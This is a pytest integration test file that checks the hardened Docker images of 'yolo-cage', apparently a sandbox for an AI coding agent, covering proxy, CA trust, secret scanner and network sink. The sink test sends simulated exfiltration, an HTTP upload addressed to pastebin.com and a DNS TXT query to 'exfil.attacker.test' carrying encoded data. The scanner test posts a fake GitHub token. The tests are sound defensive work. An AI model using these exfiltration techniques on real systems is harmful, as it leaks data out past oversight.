"""The built images really work: tools, users, hardening, entrypoints, and no
extra CA left behind. Each image runs the way the cage runs it: read-only root,
every capability dropped, no-new-privileges, its documented user.

The images are built (or found up to date in Docker's cache) through the kit,
exactly as `uv run invoke build --only all` does.
"""

from __future__ import annotations

import base64
import io
import json
import re
import socket
import struct
import tarfile
import time
import uuid
import warnings
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding

from kit import ca as cage_ca
from kit import images
from kit.names import image_ref

pytestmark = [pytest.mark.docker, pytest.mark.integration]

ROOT = Path(__file__).resolve().parents[2]
HARDENED = {"read_only": True, "cap_drop": ["ALL"], "security_opt": ["no-new-privileges:true"]}


# -- fixtures ------------------------------------------------------------------------


@pytest.fixture(scope="session")
def built() -> dict[str, str]:
    """Every image, current with the working tree (a warm build is all cache hits)."""
    report = images.build(images.options(None, only="all"))
    assert {name for name, _, _ in report.built} == set(images.IMAGES)
    return {name: ref for name, ref, _ in report.built}


@pytest.fixture(scope="module")
def docker():
    import docker as sdk

    return sdk.from_env(timeout=120)


@pytest.fixture
def start(docker, test_labels: dict[str, str]) -> Iterator:
    """Start a labelled container (hardened unless asked otherwise); all removed afterwards."""
    started = []

    def _start(image: str, command=None, *, hardened: bool = True, **kw):
        options = {**(HARDENED if hardened else {}), **kw}
        options["labels"] = {**test_labels, **options.get("labels", {})}
        container = docker.containers.run(image, command, detach=True, **options)
        started.append(container)
        return container

    yield _start
    for container in started:
        container.remove(force=True, v=True)


@pytest.fixture
def network(docker, test_labels: dict[str, str]) -> Iterator:
    net = docker.networks.create(f"yc-img-{uuid.uuid4().hex[:10]}", labels=test_labels)
    yield net
    net.reload()
    for container in net.containers:
        net.disconnect(container, force=True)
    net.remove()


@pytest.fixture(scope="module")
def cage_ca_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A cage CA as the kit makes it: the proxy's confdir (key + cert) and the agents' cert."""
    the_ca = cage_ca.generate("yolo-cage images test CA")
    other = cage_ca.generate("some other CA")
    folder = tmp_path_factory.mktemp("cage-ca")
    confdir, agent_ca, other_ca = folder / "confdir", folder / "agent", folder / "other"
    for d in (confdir, agent_ca, other_ca):
        d.mkdir()
        d.chmod(0o777)  # the containers' users (10001, 1000) must read and, for confdir, write
    (confdir / "mitmproxy-ca.pem").write_bytes(the_ca.mitmproxy_pem())
    (agent_ca / "ca.crt").write_bytes(the_ca.cert_pem)
    (other_ca / "ca.crt").write_bytes(other.cert_pem)
    for path in folder.rglob("*.*"):
        path.chmod(0o644)
    return {"confdir": confdir, "agent": agent_ca, "other": other_ca, "cert": agent_ca / "ca.crt"}


@pytest.fixture(scope="module")
def proxy_config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """/etc/yolo-cage for the proxy: default policy, one agent `dev` with token `tok`."""
    import hashlib

    folder = tmp_path_factory.mktemp("proxy-config")
    (folder / "policy.yaml").write_text("apiVersion: yolo-cage.dev/v1alpha1\nkind: Policy\n")
    digest = hashlib.sha256(b"tok").hexdigest()
    (folder / "agents.json").write_text(json.dumps({"dev": {"token_sha256": digest}}))
    folder.chmod(0o755)
    for path in folder.iterdir():
        path.chmod(0o644)
    return folder


# -- helpers -------------------------------------------------------------------------


def finished(container, timeout: float = 120) -> tuple[int, str]:
    code = container.wait(timeout=timeout)["StatusCode"]
    return code, container.logs().decode("utf-8", "replace")


def run_once(start, image: str, command, **kw) -> tuple[int, str]:
    return finished(start(image, command, **kw))


def wait_for_log(container, needle: str, timeout: float = 60) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        logs = container.logs().decode("utf-8", "replace")
        if needle in logs:
            return logs
        container.reload()
        if container.status == "exited":
            break
        time.sleep(0.3)
    raise AssertionError(f"{needle!r} not in logs of {container.name}:\n{container.logs().decode('utf-8', 'replace')}")


def exec_in(container, command, user: str | None = None) -> tuple[int, str]:
    result = container.exec_run(command, user=user or "", demux=False)
    return result.exit_code, result.output.decode("utf-8", "replace")


def version(text: str, prefix: str) -> tuple[int, ...]:
    match = re.search(re.escape(prefix) + r"(\d+)\.(\d+)", text)
    assert match, (prefix, text)
    return tuple(int(g) for g in match.groups())


def agent_options(cage_ca_files: dict[str, Path], ca: str = "agent", proxy_url: str = "http://dev:tok@proxy:8080"):
    return {
        "user": "1000:1000",
        "tmpfs": {"/tmp": "exec", "/run": "", "/workspace": "uid=1000,gid=1000", "/home/dev": "uid=1000,gid=1000"},
        "volumes": {str(cage_ca_files[ca]): {"bind": "/etc/yolo-cage/ca", "mode": "ro"}},
        "environment": {"YOLO_CAGE_PROXY_URL": proxy_url},
    }


def start_proxy(start, built, cage_ca_files, proxy_config, **kw):
    container = start(
        built["proxy"],
        tmpfs={"/tmp": "", "/var/log/yolo-cage": "uid=10001,gid=10001,mode=0750"},
        volumes={
            str(cage_ca_files["confdir"]): {"bind": "/var/lib/yolo-cage/ca", "mode": "rw"},
            str(proxy_config): {"bind": "/etc/yolo-cage", "mode": "ro"},
        },
        **kw,
    )
    deadline = time.monotonic() + 60
    while exec_in(container, ["/usr/local/bin/yolo-cage-proxy-healthcheck"])[0] != 0:
        container.reload()
        assert container.status == "running" and time.monotonic() < deadline, container.logs().decode()
        time.sleep(0.5)
    return container


# -- agent ---------------------------------------------------------------------------


def test_agent_tools_users_and_hardening(start, built, cage_ca_files) -> None:
    script = (
        "set -e; node --version; npm --version; claude --version; python3 --version; git --version; tmux -V;"
        " echo uid=$(id -u) user=$(id -un) home=$HOME; jq --version; rg --version | head -1;"
        " touch /workspace/w ~/h /tmp/t && echo writable-ok;"
        " if touch /usr/x 2>/dev/null; then echo ROOT-WRITABLE; fi;"
        " grep -E '^Cap(Eff|Prm|Bnd):' /proc/self/status; grep NoNewPrivs /proc/self/status"
    )
    code, out = run_once(start, built["agent"], ["sh", "-c", script], **agent_options(cage_ca_files))
    assert code == 0, out
    assert version(out, "v") >= (22, 0)
    assert re.search(r"^\d+\.\d+\.\d+ \(Claude Code\)$", out, re.MULTILINE), out
    assert version(out, "Python ") >= (3, 12)
    assert "git version 2." in out and "tmux 3." in out and "jq-" in out and "ripgrep" in out
    assert "uid=1000 user=dev home=/home/dev" in out
    assert "writable-ok" in out and "ROOT-WRITABLE" not in out
    assert re.search(r"CapEff:\s+0+$", out, re.MULTILINE) and re.search(r"CapBnd:\s+0+$", out, re.MULTILINE)
    assert re.search(r"NoNewPrivs:\s+1", out)


def test_agent_entrypoint_refuses_to_start_without_ca_or_proxy(start, built, cage_ca_files) -> None:
    opts = agent_options(cage_ca_files)
    no_ca = {**opts, "volumes": {}}
    code, out = run_once(start, built["agent"], ["true"], **no_ca)
    assert code == 64 and "cage CA certificate is not mounted" in out
    no_proxy = {**opts, "environment": {}}
    code, out = run_once(start, built["agent"], ["true"], **no_proxy)
    assert code == 64 and "YOLO_CAGE_PROXY_URL is not set" in out
    code, out = run_once(start, built["agent"], ["true"], **opts)  # the control: both given
    assert code == 0, out


def test_agent_environment_points_every_client_at_bundle_and_proxy(start, built, cage_ca_files) -> None:
    code, out = run_once(start, built["agent"], ["env"], **agent_options(cage_ca_files))
    assert code == 0, out
    env = dict(line.split("=", 1) for line in out.splitlines() if "=" in line)
    bundle = "/tmp/yolo-cage/ca-bundle.crt"
    for var in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "PIP_CERT", "NPM_CONFIG_CAFILE"):
        assert env[var] == bundle, var
    assert env["NODE_EXTRA_CA_CERTS"] == "/etc/yolo-cage/ca/ca.crt"
    for var in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "NPM_CONFIG_HTTPS_PROXY"):
        assert env[var] == "http://dev:tok@proxy:8080", var
    assert env["NO_PROXY"] == env["no_proxy"] == "localhost,127.0.0.1,::1"
    assert env["NODE_USE_ENV_PROXY"] == "1"


@pytest.fixture
def proxied_agent(start, built, cage_ca_files, proxy_config, network):
    """The real proxy (addon loaded) and an agent behind it on one network."""
    start_proxy(start, built, cage_ca_files, proxy_config, network=network.name, hostname="proxy")

    def _agent(ca: str = "agent"):
        return start(built["agent"], network=network.name, **agent_options(cage_ca_files, ca))

    return _agent


CLIENTS = {
    "curl": ["curl", "-fsS", "--max-time", "10", "https://yolo-cage.internal/healthz"],
    "python": ["python3", "-c", "import urllib.request as u; print(u.urlopen('https://yolo-cage.internal/healthz', timeout=10).read().decode())"],
    "node-fetch": ["node", "-e", "fetch('https://yolo-cage.internal/healthz').then(r => r.text()).then(t => console.log(t)).catch(e => { console.error(e.cause || e); process.exit(1) })"],
    "node-https": ["node", "-e", "require('https').get('https://yolo-cage.internal/healthz', r => r.pipe(process.stdout)).on('error', e => { console.error(e); process.exit(1) })"],
}


def test_agent_clients_reach_the_proxy_and_trust_the_cage_ca(proxied_agent) -> None:
    """curl, Python and Node (fetch and https) go through the proxy with the cage CA; the
    healthcheck passes. The control: the same agent trusting another CA fails every one."""
    agent = proxied_agent("agent")
    wait_for_log_or_running(agent)
    for name, argv in CLIENTS.items():
        code, out = exec_in(agent, ["yolo-cage-env", *argv])
        assert code == 0 and '"status": "ok"' in out, (name, out)
    assert exec_in(agent, ["/usr/local/bin/yolo-cage-healthcheck"]) == (0, "")

    stranger = proxied_agent("other")
    wait_for_log_or_running(stranger)
    for name, argv in CLIENTS.items():
        code, out = exec_in(stranger, ["yolo-cage-env", *argv])
        assert code != 0 and re.search(r"certificate|CERT|SSL", out), (name, out)
    assert exec_in(stranger, ["/usr/local/bin/yolo-cage-healthcheck"])[0] != 0


def test_agent_git_goes_through_the_proxy_with_the_bundle(proxied_agent) -> None:
    agent = proxied_agent("agent")
    wait_for_log_or_running(agent)
    code, out = exec_in(agent, ["yolo-cage-env", "git", "ls-remote", "https://yolo-cage.internal/none.git"])
    # The proxy answered over verified TLS (no repository there): not a TLS or name error.
    assert code != 0 and not re.search(r"SSL|certificate|resolve host", out), out
    assert re.search(r"404|not found|unable to access", out, re.IGNORECASE), out


def wait_for_log_or_running(container, timeout: float = 30) -> None:
    """The entrypoint has written the bundle once the container runs its command."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if exec_in(container, ["test", "-s", "/tmp/yolo-cage/ca-bundle.crt"])[0] == 0:
            return
        time.sleep(0.3)
    raise AssertionError(container.logs().decode())


# -- proxy ---------------------------------------------------------------------------


def test_proxy_runs_mitmdump_12_with_the_addon_as_10001(start, built, cage_ca_files, proxy_config) -> None:
    code, out = run_once(start, built["proxy"], [], entrypoint=["mitmdump", "--version"])
    assert code == 0 and version(out, "Mitmproxy: ") >= (12, 0) and version(out, "Mitmproxy: ") < (13, 0), out
    proxy = start_proxy(start, built, cage_ca_files, proxy_config)
    assert "Loading script /opt/yolo-cage/addon/entry.py" in proxy.logs().decode()
    code, out = exec_in(proxy, ["sh", "-c", "id -u; id -g; wc -c </usr/local/share/yolo-cage/runtime-extra-ca.pem"])
    assert out.split() == ["10001", "10001", "0"], out
    proxy.reload()
    ip = next(iter(proxy.attrs["NetworkSettings"]["Networks"].values()))["IPAddress"]
    r = httpx.get("http://yolo-cage.internal/healthz", proxy=f"http://{ip}:8080", timeout=10)
    assert r.status_code == 200 and r.json()["status"] == "ok"


def test_proxy_refuses_to_invent_a_ca(start, built, proxy_config, tmp_path: Path) -> None:
    empty = tmp_path / "confdir"
    empty.mkdir()
    empty.chmod(0o777)
    container = start(
        built["proxy"],
        tmpfs={"/tmp": "", "/var/log/yolo-cage": "uid=10001,gid=10001"},
        volumes={str(empty): {"bind": "/var/lib/yolo-cage/ca", "mode": "rw"}, str(proxy_config): {"bind": "/etc/yolo-cage", "mode": "ro"}},
    )
    code, out = finished(container, 60)
    assert code == 64 and "cage CA" in out and not list(empty.iterdir())


# -- scanner -------------------------------------------------------------------------


def test_scanner_answers_healthz_and_scans_as_10002(start, built) -> None:
    scanner = start(built["scanner"], tmpfs={"/tmp": ""})
    deadline = time.monotonic() + 90
    while exec_in(scanner, ["/usr/local/bin/yolo-cage-scanner-healthcheck"])[0] != 0:
        scanner.reload()
        assert scanner.status == "running" and time.monotonic() < deadline, scanner.logs().decode()
        time.sleep(0.5)
    scanner.reload()
    ip = next(iter(scanner.attrs["NetworkSettings"]["Networks"].values()))["IPAddress"]
    assert httpx.get(f"http://{ip}:8000/healthz", timeout=10).status_code == 200
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    dirty = httpx.post(f"http://{ip}:8000/analyze/prompt", json={"prompt": f"push with {token}"}, timeout=30).json()
    clean = httpx.post(f"http://{ip}:8000/analyze/prompt", json={"prompt": "push the branch"}, timeout=30).json()
    assert dirty["is_valid"] is False and clean["is_valid"] is True
    probe = "import importlib.util as u, os; print(os.getuid(), [m for m in ('torch', 'transformers', 'presidio_analyzer') if u.find_spec(m)])"
    code, out = exec_in(scanner, ["python", "-c", probe])
    assert code == 0 and out.split() == ["10002", "[]"], out


# -- sink ----------------------------------------------------------------------------


def test_sink_records_http_dns_and_icmp_when_hardened(start, built) -> None:
    sink = start(built["sink"], cap_add=["NET_BIND_SERVICE", "NET_RAW"], tmpfs={"/capture": ""})
    wait_for_log(sink, "yolo-cage sink ready")
    sink.reload()
    ip = next(iter(sink.attrs["NetworkSettings"]["Networks"].values()))["IPAddress"]
    r = httpx.post(f"http://{ip}/upload", content=b"sink-canary", headers={"Host": "pastebin.com"}, timeout=10)
    assert r.status_code == 200
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(5)
        name = b"".join(bytes([len(p)]) + p for p in (b"bGVhaw", b"exfil", b"attacker", b"test"))
        udp.sendto(struct.pack("!HHHHHH", 9, 0x0100, 1, 0, 0, 0) + name + b"\0\x00\x10\x00\x01", (ip, 53))
        assert udp.recv(512)[:2] == b"\x00\x09"
    events = _sink_events(sink)
    http = [e for e in events if e["kind"] == "http"]
    dns = [e for e in events if e["kind"] == "dns"]
    assert http and http[-1]["host"] == "pastebin.com" and base64.b64decode(http[-1]["body_b64"]) == b"sink-canary"
    assert dns and dns[-1]["qname"] == "bGVhaw.exfil.attacker.test" and dns[-1]["qtype"] == "TXT"
    started = next(e for e in events if e["kind"] == "sink-started")
    assert started["failed"] == [] and "icmp" in started["listening"]
    code, out = exec_in(sink, ["cat", "/capture/sink-ca.crt"])
    assert code == 0 and x509.load_pem_x509_certificate(out.encode()).extensions


def test_sink_without_its_capabilities_fails_loudly(start, built) -> None:
    """No CAP_NET_RAW: the ICMP listener cannot open, and the sink says so and stops
    (ports below 1024 still open: Docker >= 20.10 sets ip_unprivileged_port_start=0)."""
    code, out = run_once(start, built["sink"], None, tmpfs={"/capture": ""})
    assert code == 1 and "cannot listen on icmp" in out


def _sink_events(sink) -> list[dict]:
    code, out = exec_in(sink, ["cat", "/capture/events.jsonl"])
    assert code == 0, out
    return [json.loads(line) for line in out.splitlines()]


# -- netguard and base -----------------------------------------------------------------


def test_netguard_has_both_iptables_backends_and_conntrack(start, built) -> None:
    script = (
        "for t in iptables-nft iptables-legacy ip6tables-nft ip6tables-legacy; do $t --version || exit 1; done;"
        " iptables-legacy -m conntrack --help | grep -q ctstate && echo conntrack-ok; id -u"
    )
    code, out = run_once(start, built["netguard"], ["/bin/sh", "-c", script])
    assert code == 0, out
    assert out.count("nf_tables") == 2 and out.count("legacy") == 2 and "conntrack-ok" in out
    assert out.split()[-1] == "0"


def test_base_is_slim_trixie(start, built, docker) -> None:
    base = docker.images.get(built["proxy"]).labels["yolo-cage.base"]
    script = ". /etc/os-release; echo $VERSION_CODENAME; ls /usr/share/man | wc -l; ls /var/lib/apt/lists | wc -l"
    code, out = run_once(start, base, ["sh", "-c", script])
    assert code == 0 and out.split() == ["trixie", "0", "0"], out


# -- no extra CA in final images -------------------------------------------------------


def _distinctive_extra_certs(docker, built) -> list[x509.Certificate]:
    """Certificates of the build's extra CA bundle that are no public root: not shipped by
    this machine's distribution (/usr/share/ca-certificates), nor by the images' own stores
    (the agent's system bundle, certifi, Node's built-in roots). Public roots turn up in
    many places (vendored bundles, roots compiled into binaries); a corporate CA only
    where a build leaked it."""
    extra_pem = (images.BUILD_DIR / "ca" / "extra-ca.pem").read_bytes()
    if not extra_pem:
        pytest.skip("the images were built without an extra CA bundle: nothing to look for")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        extra = x509.load_pem_x509_certificates(extra_pem)
        public = set()
        for text in _public_roots(docker, built):
            public |= {c.public_bytes(Encoding.DER) for c in x509.load_pem_x509_certificates(text)}
    distinctive = [c for c in extra if c.public_bytes(Encoding.DER) not in public]
    if not distinctive:
        pytest.skip("the extra CA bundle holds only public roots: a leak could not be told apart")
    return distinctive


def _public_roots(docker, built) -> list[bytes]:
    agent = built["agent"]
    node = "console.log(require('tls').rootCertificates.join('\\n'))"
    outputs = [
        docker.containers.run(agent, ["cat", "/etc/ssl/certs/ca-certificates.crt"], entrypoint=[], remove=True),
        docker.containers.run(agent, ["node", "-e", node], entrypoint=[], remove=True),
    ]
    import certifi

    shipped = [p.read_bytes() for p in sorted(Path("/usr/share/ca-certificates").rglob("*.crt"))]
    return [*outputs, Path(certifi.where()).read_bytes(), *shipped]


def _markers(certs: list[x509.Certificate]) -> list[bytes]:
    """Byte strings that appear wherever one of ``certs`` is stored, as DER or as PEM."""
    found = []
    for cert in certs:
        der = cert.public_bytes(Encoding.DER)
        found.append(der)
        pem_lines = cert.public_bytes(Encoding.PEM).splitlines()
        found.append(pem_lines[len(pem_lines) // 2])  # a line from the middle: unique to this certificate
    return found


def _files_holding(docker, image: str, markers: list[bytes]) -> list[str]:
    """Paths in ``image``'s filesystem that contain any marker (streamed `docker export`)."""
    container = docker.containers.create(image, entrypoint=["true"])
    hits = []
    try:
        stream = io.BufferedReader(_IterStream(container.export(chunk_size=1 << 20)), buffer_size=1 << 20)
        with tarfile.open(fileobj=stream, mode="r|") as tar:
            for member in tar:
                if member.isfile() and _contains(tar.extractfile(member), markers):
                    hits.append(member.name)
    finally:
        container.remove(force=True, v=True)
    return hits


def _contains(fileobj, markers: list[bytes], chunk: int = 1 << 22) -> bool:
    overlap = max(len(m) for m in markers)
    tail = b""
    while data := fileobj.read(chunk):
        window = tail + data
        if any(m in window for m in markers):
            return True
        tail = window[-overlap:]
    return False


class _IterStream(io.RawIOBase):
    def __init__(self, chunks):
        self.chunks = iter(chunks)
        self.pending = b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        while not self.pending:
            try:
                self.pending = next(self.chunks)
            except StopIteration:
                return 0
        n = min(len(buffer), len(self.pending))
        buffer[:n] = self.pending[:n]
        self.pending = self.pending[n:]
        return n


@pytest.fixture(scope="module")
def proxy_with_runtime_ca(built, docker, run_id: str) -> Iterator[str]:
    """The proxy built with --runtime-extra-ca (the one image allowed to keep it), as a
    positive control for the leak search."""
    tag = f"test-{run_id}"
    images.build(images.BuildOptions(only=("proxy",), runtime_extra_ca=True, tag=tag))
    yield image_ref("proxy", tag)
    docker.images.remove(image_ref("proxy", tag), force=True)


def test_no_extra_ca_in_any_final_image(built, docker, proxy_with_runtime_ca) -> None:
    markers = _markers(_distinctive_extra_certs(docker, built))
    # The control: the proxy built to keep the CA is found to keep it, where expected.
    assert _files_holding(docker, proxy_with_runtime_ca, markers) == ["usr/local/share/yolo-cage/runtime-extra-ca.pem"]
    for name in ("proxy", "scanner", "sink", "agent", "netguard"):
        assert _files_holding(docker, built[name], markers) == [], name
        env = docker.images.get(built[name]).attrs["Config"]["Env"]
        assert not any("/tmp/build" in e for e in env), (name, env)
